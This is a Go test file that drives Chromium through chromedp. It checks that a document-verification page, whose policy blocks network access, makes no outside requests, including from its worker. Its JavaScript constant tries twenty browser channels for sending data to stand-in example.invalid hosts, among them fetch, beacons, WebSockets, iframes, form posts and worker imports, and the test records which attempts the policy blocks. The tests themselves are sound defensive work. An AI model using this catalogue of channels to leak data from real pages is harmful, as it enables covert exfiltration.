package page_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"gradseal/proof"
)

// askOutside are the ways in which a script can send something to another
// machine, but for leaving the page. Each starts, and none waits for an answer.
const askOutside = `(() => {
	const to = (way) => "http://" + way + ".example.invalid/";
	const add = (parent, tag, attributes) => {
		const element = Object.assign(document.createElement(tag), attributes);
		parent.append(element);
		return element;
	};
	const ways = {
		fetch: (u) => { fetch(u, {mode: "no-cors"}).catch(() => {}); },
		keepalive: (u) => { fetch(u, {method: "POST", mode: "no-cors", keepalive: true, body: "x"}).catch(() => {}); },
		xhr: (u) => { const x = new XMLHttpRequest(); x.open("POST", u); x.send("x"); },
		beacon: (u) => { navigator.sendBeacon(u, "x"); },
		socket: (u) => { new WebSocket(u.replace("http", "ws")); },
		events: (u) => { new EventSource(u); },
		image: (u) => { new Image().src = u; },
		script: (u) => { add(document.head, "script", {src: u}); },
		module: (u) => { import(u).catch(() => {}); },
		style: (u) => { add(document.head, "link", {rel: "stylesheet", href: u}); },
		icon: (u) => { add(document.head, "link", {rel: "icon", href: u}); },
		preload: (u) => { add(document.head, "link", {rel: "preload", as: "image", href: u}); },
		prefetch: (u) => { add(document.head, "link", {rel: "prefetch", href: u}); },
		frame: (u) => { add(document.body, "iframe", {src: u}); },
		object: (u) => { add(document.body, "object", {data: u}); },
		video: (u) => { add(document.body, "video", {src: u, preload: "auto"}); },
		font: (u) => { new FontFace("f", "url(" + u + ")").load().catch(() => {}); },
		form: (u) => {
			const frame = add(document.body, "iframe", {name: "answer"});
			add(document.body, "form", {action: u, method: "post", target: "answer"}).submit();
		},
		worker: (u) => {
			const source = "importScripts(" + JSON.stringify(u) + ")";
			new Worker(URL.createObjectURL(new Blob([source])));
		},
		"worker-fetch": (u) => {
			const source = "fetch(" + JSON.stringify(u) + ", {mode: 'no-cors'})";
			new Worker(URL.createObjectURL(new Blob([source])));
		},
	};
	const failed = [];
	for (const [name, way] of Object.entries(ways)) {
		try { way(to(name)); } catch { failed.push(name); }
	}
	return Object.keys(ways);
})()`

// hosts are the hosts of askOutside that were asked for.
func (o *outside) hosts() []string {
	var hosts []string
	for _, line := range o.requests() {
		if _, host, ok := strings.Cut(line, " "); ok {
			host = strings.TrimPrefix(host, "http://")
			name, _, _ := strings.Cut(host, ".example.invalid")
			hosts = append(hosts, name)
		}
	}
	slices.Sort(hosts)
	return slices.Compact(hosts)
}

// testCanSend: the test below would see a page that sends something.
func (c *chromium) testCanSend(t *testing.T) {
	v := c.browse(t)
	v.navigate([]byte(`<!DOCTYPE html><title>no policy</title><body>`))
	ways := eval[[]string](v, askOutside)
	require.Len(t, ways, 20)
	slices.Sort(ways)
	require.EventuallyWithT(t, func(c *assert.CollectT) { require.Equal(c, ways, v.outside.hosts()) }, patience, 50*time.Millisecond)
	v.outside.forget()
}

// testAsksNobody judges documents, adds an institution and a status list,
// makes files, and watches: the page and its worker ask for nothing but what is
// in the page. Nor could they: its policy stops what a script might try.
func (c *chromium) testAsksNobody(t *testing.T) {
	b := transcripts(t)
	other := issue(t, college, map[string][]byte{"college.pdf": sample(t, kbsu)})
	v := c.open(t, pageOf(t, b.pack(t)))
	worker := v.worker()
	dir := t.TempDir()
	v.choose(write(t, dir, b.files, kbsu, kbsu+proof.Suffix, lin)...)
	require.Equal(t, []string{"CANNOT TELL", "VALID"}, v.words())
	lists := map[string][]byte{"newer.status": b.status(t, 2, kbsu), "college.pack": other.pack(t)}
	v.chooseIn("#status-file", write(t, dir, lists, "newer.status")...)
	require.Equal(t, []string{"WITHDRAWN", "CANNOT TELL"}, v.words())
	v.run(`document.getElementById("language").value = "zh"`)
	v.finish(func() { v.run(`document.getElementById("language").dispatchEvent(new Event("change"))`) })
	v.requireNothingAsked(worker)

	// What the policy stops is told on the console, and is not asked for.
	ways := eval[[]string](v, askOutside)
	_, err := chromedp.Run(worker.ctx, chromedp.Evaluate[chromedp.Void](`
		for (const ask of [() => fetch("http://w1.example.invalid/").catch(() => {}), () => new WebSocket("ws://w2.example.invalid/"),
			() => importScripts("http://w3.example.invalid/"), () => { const x = new XMLHttpRequest(); x.open("GET", "http://w4.example.invalid/", false); x.send(); }]) {
			try { ask() } catch {}
		}`))
	require.NoError(t, err)
	told := slices.DeleteFunc(slices.Clone(ways), func(w string) bool {
		return w == "object" || w == "form" || w == "worker" || w == "worker-fetch" // of these the page is told nothing
	})
	for _, way := range told {
		require.Eventually(t, func() bool {
			return slices.ContainsFunc(v.console(), func(m string) bool { return strings.Contains(m, "//"+way+".example.invalid") })
		}, patience, 20*time.Millisecond, "%s: %q", way, v.console())
	}
	// The page still works, and is asked to send what it may: nothing.
	v.startOver()
	v.choose(write(t, dir, b.files, reissue, reissue+proof.Suffix)...)
	require.Equal(t, []string{"有效"}, v.words())
	require.Empty(t, v.outside.requests())
	v.forgetConsole()
}

// worker is the worker of the page, as DevTools sees it.
func (v *visit) worker() *visit {
	v.Helper()
	var id target.ID
	var own cdp.BrowserContextID // other tests have workers too
	require.Eventually(v, func() bool {
		all, err := chromedp.Targets(v.ctx)
		require.NoError(v, err)
		for _, info := range all {
			if info.Type == "page" && info.URL == v.url {
				own = info.BrowserContextID
			}
		}
		for _, info := range all {
			if info.Type == "worker" && own != "" && info.BrowserContextID == own && strings.HasPrefix(info.URL, "blob:") {
				id = info.TargetID
			}
		}
		return id != ""
	}, patience, 50*time.Millisecond)
	ctx, cancel := chromedp.NewContext(v.ctx, chromedp.WithTargetID(id))
	v.Cleanup(cancel)
	w := &visit{TB: v.TB, ctx: ctx, outside: v.outside}
	require.NoError(v, chromedp.Listen(ctx, w.hear))
	return w
}

// requireNothingAsked holds what DevTools saw of the page and of its worker
// against what they may load: the page's own file, and what is in it.
func (v *visit) requireNothingAsked(worker *visit) {
	v.Helper()
	for _, seen := range [][]string{v.asked(), worker.asked()} {
		for _, address := range seen {
			require.True(v, address == v.url || strings.HasPrefix(address, "blob:") || strings.HasPrefix(address, "data:"), address)
		}
	}
	require.Contains(v, v.asked(), v.url, "requests are seen")
	require.Empty(v, v.outside.requests())
}
